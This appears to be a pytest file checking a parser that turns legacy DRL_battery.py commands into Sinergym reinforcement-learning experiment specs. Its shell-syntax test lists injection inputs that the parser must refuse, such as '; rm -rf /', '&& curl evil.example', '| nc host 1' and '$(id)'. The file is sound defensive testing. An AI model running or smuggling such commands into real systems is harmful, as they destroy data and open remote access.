"""The original tool's command strings: every flag, long and short, parsed; shell syntax refused."""

from __future__ import annotations

import shlex

import pytest

from sinergym_cloud.contracts import Experiment
from sinergym_cloud.inputs import flags, legacy
from trainer.cli import build_parser, experiment_from_args

SEED_COMMANDS = [
    "python3 DRL_battery.py --environment Eplus-5Zone-hot-discrete-v1 --episodes 2 --algorithm DQN --logger "
    "--log_interval 1 --seed 58 --evaluation --eval_freq 1 --eval_length 1 --tensorboard ./tensorboard_log "
    "--remote_store",
    "python3 DRL_battery.py --environment Eplus-5Zone-hot-continuous-v1 --episodes 3 --algorithm PPO --logger "
    "--log_interval 300 --seed 52 --evaluation --eval_freq 1 --eval_length 1 --tensorboard ./tensorboard_log "
    "--remote_store",
]


def test_seed_examples_parse_to_the_documented_experiments() -> None:
    dqn, group = legacy.parse_command(SEED_COMMANDS[0])
    assert group is None
    assert dqn == Experiment(
        environment="Eplus-5zone-hot-discrete-v1",
        episodes=2,
        algorithm="DQN",
        logger=True,
        log_interval=1,
        seed=58,
        evaluation=True,
        eval_freq=1,
        eval_length=1,
        tensorboard="./tensorboard_log",
        remote_store=True,
    )
    ppo, _ = legacy.parse_command(SEED_COMMANDS[1])
    assert (ppo.algorithm, ppo.episodes, ppo.seed, ppo.log_interval) == ("PPO", 3, 52, 300)
    assert ppo.environment == "Eplus-5zone-hot-continuous-v1"


# One value per flag kind that every algorithm-independent flag accepts.
RUN_VALUES = {
    "environment": "Eplus-5zone-mixed-continuous-v1",
    "episodes": "4",
    "algorithm": "PPO",
    "reward": "exponential",
    "tensorboard": "gs://my-bucket/my-batch/my-experiment/tb",
    "eval_freq": "3",
    "eval_length": "2",
    "log_interval": "10",
    "seed": "7",
    "group_name": "study-a",
    "n_envs": "2",
    "checkpoint_every": "5",
    "checkpoint_min_seconds": "90.0",
}


@pytest.mark.parametrize("flag", [f for f in flags.RUN_FLAGS], ids=lambda f: f.long)
@pytest.mark.parametrize("spelling", ["long", "short"])
def test_every_run_flag_long_and_short(flag: flags.Flag, spelling: str) -> None:
    name = flag.long if spelling == "long" or not flag.short else flag.short
    tokens = ["python3", "DRL_battery.py"]
    if flag.dest != "environment":
        tokens += ["--environment", RUN_VALUES["environment"]]
    if flag.kind == "bool":
        tokens.append(name)
    elif flag.kind == "runperiod":
        tokens += [name, "1", "1", "1991", "7", "1", "1991"]
    else:
        tokens += [name, RUN_VALUES[flag.dest]]
    experiment, group = legacy.parse_command(shlex.join(tokens))
    if flag.dest == "group_name":
        assert group == "study-a"
    elif flag.dest == "auto_delete":
        assert experiment == Experiment(environment=RUN_VALUES["environment"])
    elif flag.kind == "bool":
        assert getattr(experiment, flag.dest) is True
    elif flag.kind == "runperiod":
        assert experiment.runperiod == (1, 1, 1991, 7, 1, 1991)
    elif flag.dest == "environment":
        assert experiment.environment == RUN_VALUES["environment"]
    else:
        expected = RUN_VALUES[flag.dest]
        assert str(getattr(experiment, flag.dest)) == expected


HYPER_VALUES = {"int": "64", "float": "0.5"}


@pytest.mark.parametrize("flag", list(flags.HYPERPARAMETER_FLAGS), ids=lambda f: f.long)
def test_every_hyperparameter_flag_for_an_algorithm_that_takes_it(flag: flags.Flag) -> None:
    assert flag.algorithms
    algorithm = sorted(flag.algorithms)[0]
    env = "Eplus-5zone-hot-discrete-v1" if algorithm == "DQN" else "Eplus-5zone-hot-continuous-v1"
    for name in filter(None, (flag.long, flag.short)):
        command = f"python3 DRL_battery.py --environment {env} --algorithm {algorithm} {name} {HYPER_VALUES[flag.kind]}"
        experiment, _ = legacy.parse_command(command)
        assert float(experiment.hyperparameters.given()[flag.dest]) == float(HYPER_VALUES[flag.kind])


@pytest.mark.parametrize(
    ("command", "fragment"),
    [
        (
            "python3 DRL_battery.py --environment Eplus-5zone-hot-discrete-v1 --algorithm PPO --buffer_size 10",
            "buffer_size does not apply to PPO",
        ),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --algorithm DQN", "discrete"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-discrete-v1 --algorithm SAC", "continuous"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --algorithm SAC --n-envs 2", "n_envs"),
        ("python3 DRL_battery.py --environment Eplus-nope-v1", "unknown Sinergym environment"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --reward quadratic", "unknown reward"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --episodes -1", "episodes"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --episodes two", "expects a number"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --bogus 1", "unknown flag '--bogus'"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 extra", "unexpected argument 'extra'"),
        ("python3 DRL_battery.py --episodes 2", "--environment is required"),
        ("python3 train.py --environment Eplus-5zone-hot-continuous-v1", "unexpected program 'train.py'"),
        ("bash -c DRL_battery.py", "unexpected program 'bash'"),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --seed 1 --seed 2", "given twice"),
        (
            "python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --runperiod 31 2 1991 1 3 1991",
            "day is out of range",
        ),
        ("python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1 --tensorboard ../../etc", "'..'"),
        ("", "empty experiment command"),
    ],
)
def test_invalid_commands_are_rejected_with_the_reason(command: str, fragment: str) -> None:
    with pytest.raises(legacy.LegacyCommandError) as info:
        legacy.parse_command(command)
    assert fragment in str(info.value)


BASE = "python3 DRL_battery.py --environment Eplus-5zone-hot-continuous-v1"


@pytest.mark.parametrize(
    ("suffix", "offending"),
    [
        ("; rm -rf /", "';'"),
        ("&& curl evil.example", "'&'"),
        ("| nc host 1", "pipe"),
        ("--seed `id`", "backtick"),
        ("--seed $(id)", "'$'"),
        ("> /etc/passwd", "redirection '>'"),
        ("< /dev/zero", "redirection '<'"),
        ("--tensorboard $HOME", "'$'"),
        ("\nrm -rf /", "newline"),
        ("--seed 1 &", "'&'"),
        ("--tensorboard a\\;b", "backslash"),
        ("--tensorboard ~/x", "'~'"),
        ("--tensorboard /tmp/*", "glob"),
    ],
)
def test_shell_syntax_is_refused_naming_the_token(suffix: str, offending: str) -> None:
    with pytest.raises(legacy.LegacyCommandError) as info:
        legacy.parse_command(f"{BASE} {suffix}")
    assert offending in str(info.value)
    assert "not allowed" in str(info.value)


def test_quoted_metacharacters_are_refused_too() -> None:
    with pytest.raises(legacy.LegacyCommandError, match="not allowed"):
        legacy.parse_command(f"{BASE} --tensorboard 'a;b'")


def test_render_then_parse_round_trips() -> None:
    for command in SEED_COMMANDS:
        experiment, _ = legacy.parse_command(command)
        assert legacy.parse_command(legacy.render_command(experiment))[0] == experiment


@pytest.mark.parametrize("command", SEED_COMMANDS)
def test_trainer_flags_and_legacy_parser_build_the_same_spec(command: str) -> None:
    tokens = shlex.split(command)[2:]
    args = build_parser().parse_args(tokens)
    assert experiment_from_args(args) == legacy.parse_command(command)[0]


def test_other_program_spellings() -> None:
    for prefix in ("python DRL_battery.py", "DRL_battery.py", "python3 ./scripts/DRL_battery.py", "python3 -m trainer"):
        experiment, _ = legacy.parse_command(f"{prefix} --environment Eplus-5zone-hot-continuous-v1")
        assert experiment.environment == "Eplus-5zone-hot-continuous-v1"
